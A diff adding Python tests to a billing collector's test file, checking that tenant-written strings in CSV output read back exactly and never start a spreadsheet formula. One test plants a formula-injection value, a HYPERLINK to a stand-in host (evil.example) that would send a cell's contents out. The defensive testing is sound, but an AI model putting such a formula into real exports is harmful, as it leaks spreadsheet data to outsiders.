@@ -13,6 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from collector import csvtext
 from collector.aggregate.billing import decode_billing
 from collector.aggregate.records import (
     CSV_FIELDS,
@@ -28,6 +29,7 @@ from collector.aggregate.records import (
     to_msgpack,
 )
 from collector.aggregate.sinks import CsvSink, JsonlSink
+from collector.report.load import _read_csv
 
 T0 = 1_795_991_820_000  # 2026-11-29T22:37:00Z
 
@@ -332,3 +334,38 @@ def test_jsonl_sink_resume_truncates_exactly(tmp_path: Path) -> None:
         resumed.write([b])
     lines = path.read_bytes().splitlines(keepends=True)
     assert lines == [jsonl_line(a), jsonl_line(b)]
+
+
+# --- text a tenant wrote, in CSV --------------------------------------------------------------
+
+TEXT = st.text(alphabet=st.characters(codec="utf-8"), max_size=40)
+
+
+@given(rows=st.lists(st.lists(TEXT, min_size=1, max_size=5), max_size=5))
+def test_csv_rows_read_back_as_written_and_no_cell_starts_a_formula(rows: list[list[str]]) -> None:
+    buf = io.StringIO()
+    csvtext.Writer(buf).writerows([[csvtext.cell(v) for v in row] for row in rows])
+    back = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
+    assert [[csvtext.text(v) for v in row] for row in back] == rows
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for row in back for v in row)
+
+
+def test_a_tenants_strings_in_the_billing_csv_read_back_exactly_and_run_no_formula(
+    tmp_path: Path,
+) -> None:
+    """A cache file's UUID that is a spreadsheet formula, and a pod owner's name with a carriage
+    return (which used to end the row for every reader: `report` refused the file)."""
+    hostile = record(device_uuid='=HYPERLINK("http://evil.example/?"&E2,"GPU-0")',
+                     workload_kind="Thing", workload="job\rx", pod="'quoted")  # fmt: skip
+    path = tmp_path / "billing.csv"
+    with CsvSink(path) as sink:
+        sink.write([hostile, record(pod_uid="uid-2")])
+    with path.open(newline="") as f:
+        rows = list(csv.reader(f))
+    assert [r[CSV_FIELDS.index("device_uuid")] for r in rows[1:]] == [
+        "'" + hostile.device_uuid,
+        "GPU-0",
+    ]
+    assert rows[1][CSV_FIELDS.index("workload")] == "job\rx"
+    assert [r.device_uuid for r in _read_csv(path)] == [hostile.device_uuid, "GPU-0"]
+    assert list(_read_csv(path))[0] == msgspec.structs.replace(hostile, version=RECORD_VERSION)
